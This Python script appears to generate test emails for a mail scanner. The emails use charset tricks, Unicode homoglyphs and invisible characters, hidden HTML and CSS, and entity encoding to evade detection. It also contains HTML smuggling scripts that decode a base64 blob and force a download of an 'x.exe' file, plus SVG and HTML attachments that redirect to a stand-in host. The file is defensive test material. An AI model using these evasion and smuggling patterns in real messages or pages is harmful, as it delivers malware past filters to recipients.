# SPDX-License-Identifier: GPL-2.0-or-later
"""Vectors 109 to 141: charsets, tricks with letters, HTML; 144: codes drawn with letters and cells."""
import os
import re
import zlib

from kit import (CTE, FROM, LETTER, MARK, PHRASE, TOP, add, attached, b, b64, cut, file_part, mail, mixed,
                 part, text_mail)

HERE = os.path.dirname(os.path.abspath(__file__))
WORDS = 'paper vector payload'
# Around a phrase in an old encoding: detection needs words.
AROUND = ('Kính gửi các đồng chí, đề nghị đọc kỹ {} và báo cáo kết quả thực hiện trước ngày hết hạn. '
          'Trân trọng cảm ơn sự phối hợp của các đơn vị.\r\n')
COLUMNS = {'tcvn3': 0, 'tcvn5712': 1, 'vni': 2, 'vps': 3, 'viscii': 4, 'cp1258': 5, 'bkhcm1': 6, 'bkhcm2': 7,
           'vietware-f': 8, 'vietware-x': 9}


def old(text, encoding):
    """The text in an encoding from before Unicode, by the table of the text room."""
    table = {}
    with open(os.path.join(HERE, '../../src/text/vietnamese_tables.inc'), encoding='utf-8') as file:
        for point, values in re.findall(r'\{0x([0-9A-F]+),\{([^}]+)\}\}', file.read()):
            code = int(values.split(',')[COLUMNS[encoding]], 16)
            table[chr(int(point, 16))] = code.to_bytes(2 if code > 255 else 1, 'big')
    return b''.join(table.get(c, c.encode('ascii', 'replace')) for c in text)


def html(vector, name, decided, text, charset='utf-8', **more):
    add(vector, name, decided, text_mail(f'<html><body>{text}</body></html>', charset, kind='html'), **more)


def plain(vector, name, decided, text, charset='utf-8', **more):
    add(vector, name, decided, text_mail(text, charset), **more)


def charsets():
    label = lambda value: [f'Content-Type: text/plain; {value}', CTE + 'base64']
    for name, value in {'twice': 'charset=utf-16; charset=utf-8', 'unknown': 'charset=x-no-such', 'x-binaryenc': 'charset=x-binaryenc',
                        'empty': 'charset=""', 'two-words': 'charset="utf-8 utf-16"', 'encoded-word': 'charset="=?us-ascii?q?utf-8?="',
                        'lies-utf-16': 'charset=utf-16', 'lies-koi8': 'charset=koi8-r', 'lies-ebcdic': 'charset=ibm037'}.items():
        add(109, name, 'found', mail(label(value), b64(b(MARK))))
    utf7 = MARK.replace('G', '+AEc-').replace('V', '+AFY-').replace('P', '+AFA-')
    plain(110, 'declared', 'found', utf7, 'utf-7')
    plain(110, 'undeclared', 'found', utf7, 'us-ascii')
    plain(110, 'no-label', 'found', utf7, '')
    plain(110, 'phrase', 'found', PHRASE.encode('utf-7'), 'utf-7')
    html(110, 'html', 'found', utf7, 'utf-7')
    for codec in ('utf-16', 'utf-16-le', 'utf-16-be', 'utf-32', 'utf-32-le', 'utf-32-be'):
        data = (MARK + ' and some more words').encode(codec)
        for name, charset in {'declared': codec, 'undeclared': 'us-ascii', 'no-label': ''}.items():
            plain(111, f'{codec}-{name}', 'found', data, charset)
        plain(111, f'{codec}-phrase', 'found', PHRASE.encode(codec), codec)
    plain(112, 'iso-2022-jp', 'found', b'\x1b$B$3$l\x1b(B ' + b(MARK) + b'\x1b$B\x1b(B', 'iso-2022-jp')
    plain(112, 'iso-2022-jp-shifts', 'found', b(MARK[:12]) + b'\x1b$B\x1b(B' + b(MARK[12:]), 'iso-2022-jp')
    plain(112, 'iso-2022-jp-undeclared', 'found', b(MARK[:12]) + b'\x1b(B\x1b(J' + b(MARK[12:]), 'us-ascii')
    plain(112, 'hz', 'found', b'~{VPND~} ' + b(MARK), 'hz-gb-2312')
    plain(112, 'hz-shifts', 'found', b(MARK[:12]) + b'~{~}' + b(MARK[12:]), 'hz-gb-2312')
    plain(112, 'iso-2022-kr', 'found', b'\x1b$)C' + b(MARK[:12]) + b'\x0e\x0f' + b(MARK[12:]), 'iso-2022-kr')
    mark = b(MARK)
    long_g = {'two': b'\xc1\x87', 'three': b'\xe0\x81\x87', 'four': b'\xf0\x80\x81\x87'}
    for name, form in long_g.items():
        plain(113, 'overlong-' + name, 'found', form + mark[1:], 'utf-8')
    for name, junk in {'stray': b'\x80', 'lead': b'\xc3', 'ff': b'\xff', 'surrogate': b'\xed\xa0\x80', 'beyond': b'\xf5\x80\x80\x80'}.items():
        plain(113, 'invalid-' + name, 'found', mark[:12] + junk + mark[12:], 'utf-8')
    for charset in ('iso-8859-1', 'windows-1252', 'us-ascii', 'iso-8859-15'):
        plain(114, charset, 'found', b(PHRASE), charset)
    for encoding in COLUMNS:
        data = old(AROUND.format(PHRASE), encoding)
        plain(115, encoding, 'found', data, '')
        plain(115, encoding + '-latin1', 'found', data, 'iso-8859-1')
    plain(115, 'viscii-labelled', 'found', old(AROUND.format(PHRASE), 'viscii'), 'viscii')
    plain(115, 'cp1258-labelled', 'found', old(AROUND.format(PHRASE), 'cp1258'), 'windows-1258')
    plain(115, 'viqr', 'found', AROUND.format('co^ng va(n thu+? nghie^.m so^\' mu+o+`i ba?y'
                                              ).replace('đ', 'dd').encode('ascii', 'ignore'), 'us-ascii')
    # In Subject: bytes in an old encoding behind an encoded-word's label.
    for charset, encoding in (('viscii', 'viscii'), ('windows-1258', 'cp1258'), ('tcvn', 'tcvn5712'), ('x-viet-tcvn5712', 'tcvn5712')):
        word = '=?' + charset + '?q?' + ''.join(f'={byte:02X}' for byte in old(PHRASE, encoding)) + '?='
        add(115, 'subject-' + charset, 'found', mail(['Content-Type: text/plain'], 'x\r\n', top=tuple(
            one for one in TOP if not one.startswith('Subject')) + ('Subject: ' + word,)))


def letters():
    import unicodedata
    plain(116, 'nfd', 'found', unicodedata.normalize('NFD', PHRASE))
    plain(116, 'nfc', 'clean', PHRASE)
    odd = ''.join(c if len(unicodedata.normalize('NFD', c)) < 3 else unicodedata.normalize('NFD', c)[0]
                  + unicodedata.normalize('NFD', c)[2] + unicodedata.normalize('NFD', c)[1] for c in PHRASE)
    plain(116, 'odd-order', 'found', odd)
    plain(116, 'hybrid', 'found', ''.join(unicodedata.normalize('NFC', unicodedata.normalize('NFD', c)[:2])
                                          + unicodedata.normalize('NFD', c)[2:] for c in PHRASE))
    plain(117, 'stripped', 'found', 'cong van thu nghiem so muoi bay')
    plain(117, 'partly', 'found', 'công van thử nghiem số muoi bảy')
    plain(117, 'upper', 'found', 'CONG VAN THU NGHIEM SO MUOI BAY')
    for name, c in {'zwsp': '\u200b', 'zwnj': '\u200c', 'zwj': '\u200d', 'feff': '\ufeff', 'wj': '\u2060', 'shy': '\u00ad',
                    'cgj': '\u034f', 'mvs': '\u180e', 'filler': '\u3164', 'invisible-times': '\u2062'}.items():
        plain(118, name, 'found', c.join(MARK))
    for name, text in {'rlo': '\u202e' + MARK + '\u202c', 'inside': MARK[:9] + '\u202d' + MARK[9:], 'isolate': MARK[:9] + '\u2066\u2069' + MARK[9:],
                       'marks': '\u200f'.join(MARK)}.items():
        plain(119, name, 'found', text)
    plain(119, 'reversed', 'found', '\u202e' + MARK[::-1] + '\u202c')
    plain(120, 'tags', 'found', '\U000e0041'.join(MARK))
    plain(120, 'selectors', 'found', '\ufe0f'.join(MARK))
    plain(120, 'selectors-supplement', 'found', '\U000e0100'.join(MARK))
    plain(120, 'hidden-in-tags', 'found', 'x' + ''.join(chr(0xe0000 + ord(c)) for c in MARK))
    plain(121, 'flood', 'found', ''.join(c + '\u0336\u0321\u0489\u0334' * 3 for c in WORDS))
    plain(121, 'one-each', 'found', ''.join(c + '\u0336' for c in WORDS))
    table = {'a': '\u0430', 'e': '\u0435', 'p': '\u0440', 'o': '\u043e', 'c': '\u0441', 'y': '\u0443', 'v': '\u03bd'}
    plain(122, 'cyrillic', 'found', ''.join(table.get(c, c) for c in WORDS))
    plain(122, 'one-letter', 'found', WORDS.replace('o', '\u043e', 1))
    plain(122, 'greek', 'found', WORDS.replace('o', '\u03bf').replace('v', '\u03bd'))
    plain(122, 'dotless-and-others', 'found', WORDS.replace('a', '\u0251').replace('l', '\u04cf'))
    for name, base in {'full-width': 0xff41, 'bold': 0x1d41a, 'script': 0x1d4ea, 'fraktur': 0x1d586, 'mono': 0x1d68a, 'sans': 0x1d5ba,
                       'circled': 0x24d0, 'squared': 0x1f130}.items():
        plain(123, name, 'found', ''.join(chr(base + ord(c) - 97) if c != ' ' else c for c in WORDS))
    for name, text in {'leet': 'p4p3r v3ct0r p4yl04d', 'at': 'p@per vector p@ylo@d', 'spaced': ' '.join(WORDS.replace(' ', '')),
                       'dotted': '.'.join(WORDS.replace(' ', '')), 'dashed': '-'.join(WORDS.replace(' ', '')),
                       'underscored': '_'.join(WORDS.replace(' ', '')), 'wide': '   '.join(WORDS.replace(' ', ''))}.items():
        plain(124, name, 'found', text)
    for name, tag in {'b': '<b></b>', 'span': '<span></span>', 'comment': '<!-- x -->', 'wbr': '<wbr>', 'font': '<font size=2></font>',
                      'unknown': '<x-y></x-y>', 'shy': '&shy;', 'zwnj': '&zwnj;', 'a': '<a></a>', 'img': '<img alt="">'}.items():
        html(125, name, 'found', MARK[:9] + tag + MARK[9:])
    html(125, 'every-letter', 'found', ''.join(f'<b>{c}</b>' for c in MARK))
    plain(126, 'line-break', 'found', f'x {WORDS.replace(" ", chr(10))} y')
    plain(126, 'soft-hyphen-break', 'found', MARK[:9] + '\u00ad\r\n' + MARK[9:])
    plain(126, 'qp-soft-break', 'found', f'x {WORDS.split()[0]}\r\n{WORDS.split(" ", 1)[1]}')
    for name, url in {'punycode': 'http://xn--vectr-payload-3zb.example/', 'host': 'http://VECTOR-payload.example/',
                      'escapes': 'http://vector%2Dpayload.example/', 'user': 'http://bank.example@vector-payload.example/',
                      'full-width': 'http://vector\uff0dpayload\uff0eexample/', 'ideographic-dot': 'http://vector-payload\u3002example/'}.items():
        html(127, name, 'found' if name != 'punycode' else 'tagged', f'<a href="{url}">see</a>', payload=name != 'punycode')


def hidden_html():
    for name, style in {'display': 'display:none', 'visibility': 'visibility:hidden', 'visibility-collapse': 'visibility:collapse',
                        'display-important': 'display : none !important', 'comment-in-css': 'display:/*x*/none', 'upper': 'DISPLAY:NONE',
                        'escape': 'd\\69splay:none'}.items():
        html(128, name, 'found', f'<p>letter</p><div style="{style}">{MARK}</div>')
        html(128, name + '-inside-word', 'found', f'{MARK[:9]}<span style="{style}">zzz</span>{MARK[9:]}')
    html(128, 'hidden-attribute', 'found', f'<p>letter</p><div hidden>{MARK}</div>')
    html(128, 'details', 'found', f'<details><summary>x</summary>{MARK}</details>')
    html(128, 'template', 'found', f'<template>{MARK}</template>')
    html(128, 'noscript', 'found', f'<noscript>{MARK}</noscript>')
    for name, style in {'size-0': 'font-size:0', 'size-1': 'font-size:1px', 'size-tiny': 'font-size:0.01em', 'opacity': 'opacity:0',
                        'white-on-white': 'color:#fff;background:#ffffff', 'white': 'color:white', 'rgb': 'color:rgb(255,255,255)',
                        'transparent': 'color:transparent', 'rgba': 'color:rgba(0,0,0,0)', 'almost': 'color:#fefefe;background-color:#fff'}.items():
        html(129, name, 'found', f'<p>letter</p><span style="{style}">{MARK}</span>')
    html(129, 'font-colour', 'found', f'<body bgcolor=white><font color=white>{MARK}</font>')
    html(129, 'font-size-zero', 'found', f'<font size=0>{MARK}</font>')
    for name, style in {'off-screen': 'position:absolute;left:-9999px', 'clip': 'clip:rect(0,0,0,0);position:absolute', 'overflow': 'overflow:hidden;height:0',
                        'max-height': 'max-height:0;overflow:hidden', 'width': 'width:0;overflow:hidden', 'indent': 'text-indent:-9999px',
                        'clip-path': 'clip-path:inset(100%)', 'transform': 'transform:scale(0)', 'mso': 'mso-hide:all'}.items():
        html(130, name, 'found', f'<p>letter</p><div style="{style}">{MARK}</div>')
    for name, style in {'class': '.x{display:none}', 'id': '#x{display:none}', 'tag': 'div{display:none}', 'media': '@media screen{.x{display:none}}',
                        'comment': '<!-- .x{display:none} -->', 'list': '.y,.x{font-size:0}', 'import': '@import "x"; .x{opacity:0}'}.items():
        html(131, name, 'found', f'<style>{style}</style><p>letter</p><div class=x id=x>{MARK}</div>')
    for name, text in {'comment': f'<!-- {MARK} -->', 'mso': f'<!--[if mso]><p>{MARK}</p><![endif]-->', 'not-mso': f'<!--[if !mso]><!--><p>{MARK}</p><!--<![endif]-->',
                       'downlevel': f'<![if !mso]><p>{MARK}</p><![endif]>', 'open-comment': f'<!-- <p>{MARK}</p>', 'odd-end': f'<!-- x --!><p>{MARK}</p>',
                       'short': f'<!--><p>{MARK}</p>-->', 'cdata': f'<![CDATA[ {MARK} ]]>'}.items():
        html(132, name, 'found', text)
    for name, text in {'hex': ''.join(f'&#x{ord(c):x};' for c in MARK), 'decimal': ''.join(f'&#{ord(c)};' for c in MARK), 'no-semicolon': ''.join(f'&#{ord(c)}' if c != '-' else '-' for c in MARK),
                       'zeros': ''.join(f'&#x0000{ord(c):x};' for c in MARK), 'named': MARK.replace('-', '&hyphen;'), 'upper': ''.join(f'&#X{ord(c):X};' for c in MARK),
                       'between': '&#8203;'.join(MARK), 'twice': MARK.replace('G', '&amp;#71;')}.items():
        html(133, name, 'found' if name != 'twice' else 'tagged', text, payload=name != 'twice') if name != 'twice' else None
    for name, text in {'base': '<base href="http://vector-payload.example/"><a href="x">see</a>', 'refresh': '<meta http-equiv=refresh content="0;url=http://vector-payload.example/">',
                       'form': '<form action="http://vector-payload.example/"><input name=a></form>', 'formaction': '<form><button formaction="http://vector-payload.example/">x</button></form>',
                       'area': '<map><area href="http://vector-payload.example/"></map>', 'svg-link': '<svg><a xlink:href="http://vector-payload.example/">x</a></svg>',
                       'background': '<table background="http://vector-payload.example/a.png"><tr><td>x</table>', 'css-url': '<div style="background:url(http://vector-payload.example/a)">x</div>',
                       'srcset': '<img srcset="http://vector-payload.example/a 2x">', 'ping': '<a href="#" ping="http://vector-payload.example/">x</a>'}.items():
        html(134, name, 'found', text)
    html(135, 'other-domain', 'found', '<a href="http://vector-payload.example/">http://bank.example/</a>')
    html(135, 'js-href', 'tagged', '<a href="javascript:location=\'http://vector-payload.example/\'">bank.example</a>')


def active_html():
    import base64
    code = base64.b64encode(b'MZ' + b'\0' * 70 + kit_payload()).decode()
    scripts = {'blob': f'<script>var b=atob("{code}");var u=URL.createObjectURL(new Blob([b]));var a=document.createElement("a");a.href=u;a.download="x.exe";a.click()</script>',
               'mssave': f'<script>navigator.msSaveOrOpenBlob(new Blob([atob("{code}")]),"x.exe")</script>',
               'data-link': f'<a download="x.exe" href="data:application/octet-stream;base64,{code}">x</a>',
               'data-iframe': f'<iframe src="data:text/html;base64,{base64.b64encode(b(MARK)).decode()}"></iframe>',
               'svg-script': f'<svg onload="location=\'data:text/html;base64,{code}\'"></svg>',
               'hidden-div': f'<div id=d hidden>{code}</div><script>location="data:application/octet-stream;base64,"+d.innerText</script>',
               'pieces': f'<script>var p=["{code[:40]}","{code[40:]}"];atob(p.join(""))</script>'}
    for name, text in scripts.items():
        html(136, name, 'held' if name not in ('data-iframe',) else 'found', text)
    attachment = lambda name, text: mixed(LETTER, part([f'Content-Type: application/octet-stream; name={name}', CTE + 'base64',
                                                        f'Content-Disposition: attachment; filename={name}'], b64(b(text))))
    for name, text in {'a.svg': f'<svg xmlns="http://www.w3.org/2000/svg"><script>location="http://vector-payload.example/{MARK}"</script></svg>',
                       'a.shtml': f'<html><script>location="http://vector-payload.example/{MARK}"</script></html>',
                       'a.xhtml': f'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body>{MARK}</body></html>',
                       'a.html': scripts['blob']}.items():
        add(137, name.replace('a.', ''), 'found' if name == 'a.xhtml' else 'held', attachment(name, text))
    html(138, 'srcdoc', 'found', f'<iframe srcdoc="&lt;p&gt;{MARK}&lt;/p&gt;"></iframe>')
    html(138, 'srcdoc-link', 'found', '<iframe srcdoc="&lt;a href=&quot;http://vector-payload.example/&quot;&gt;x&lt;/a&gt;"></iframe>')
    html(139, 'dir-rtl', 'found', f'<bdo dir=rtl>{MARK[::-1]}</bdo>')
    html(139, 'css-direction', 'found', f'<span style="unicode-bidi:bidi-override;direction:rtl">{MARK[::-1]}</span>')
    html(140, 'table-row', 'found', '<table><tr>' + ''.join(f'<td>{c}</td>' for c in WORDS.replace(' ', '')) + '</tr></table>')
    html(140, 'table-columns', 'found', '<table>' + ''.join(f'<tr><td>{c}</td></tr>' for c in WORDS.replace(' ', '')) + '</table>')
    html(140, 'sliced-cells', 'found', '<table><tr>' + ''.join(f'<td>{c}<br>x</td>' for c in WORDS.replace(' ', '')) + '</tr></table>')
    html(140, 'divs-inline', 'found', ''.join(f'<div style="display:inline">{c}</div>' for c in MARK))
    html(141, 'before', 'found', f'<style>.x:before{{content:"{MARK}"}}</style><p class=x></p>')
    html(141, 'after-pieces', 'found', f'<style>.x:before{{content:"{MARK[:9]}"}}</style><p class=x>{MARK[9:]}</p>')
    html(141, 'variable', 'found', f'<style>:root{{--x:"{MARK}"}}p:before{{content:var(--x)}}</style><p></p>')
    html(141, 'quotes', 'found', f'<style>q{{quotes:"{MARK}" ""}}</style><p><q></q></p>')
    html(140, 'order', 'found', f'<p style="display:flex"><b style="order:2">{MARK[9:]}</b><b style="order:1">{MARK[:9]}</b></p>')
    html(140, 'row-reverse', 'found', f'<p style="display:flex;flex-direction:row-reverse"><b>{MARK[9:]}</b><b>{MARK[:9]}</b></p>')


def drawn_codes():
    """Not codes, but as dense as one: nothing reads them."""
    dots = [[zlib.crc32(bytes((row, column))) % 5 < 3 for column in range(25)] for row in range(25)]
    def rows(dark, light, data=dots):
        return ''.join(''.join(dark if dot else light for dot in row) + '\r\n' for row in data)
    for name, text in {'blocks': rows('██', '  '), 'squares': rows('⬛', '⬜'), 'hashes': rows('##', '  '),
                       'letters': rows('X', '.')}.items():
        add(144, 'drawn-' + name, 'tagged', text_mail(text, encode=False), payload=False)
    cells = {'bgcolor': lambda dot: f'<td bgcolor="{"#000000" if dot else "#ffffff"}" width=4 height=4></td>',
             'style': lambda dot: f'<td style="background:{"#000" if dot else "#fff"}"></td>'}
    for name, cell in cells.items():
        html(144, 'cells-' + name, 'tagged', '<table>' + ''.join(
            '<tr>' + ''.join(map(cell, row)) + '</tr>\r\n' for row in dots) + '</table>', payload=False)


def kit_payload():
    import kit
    return kit.PAYLOAD


charsets()
letters()
hidden_html()
active_html()
drawn_codes()
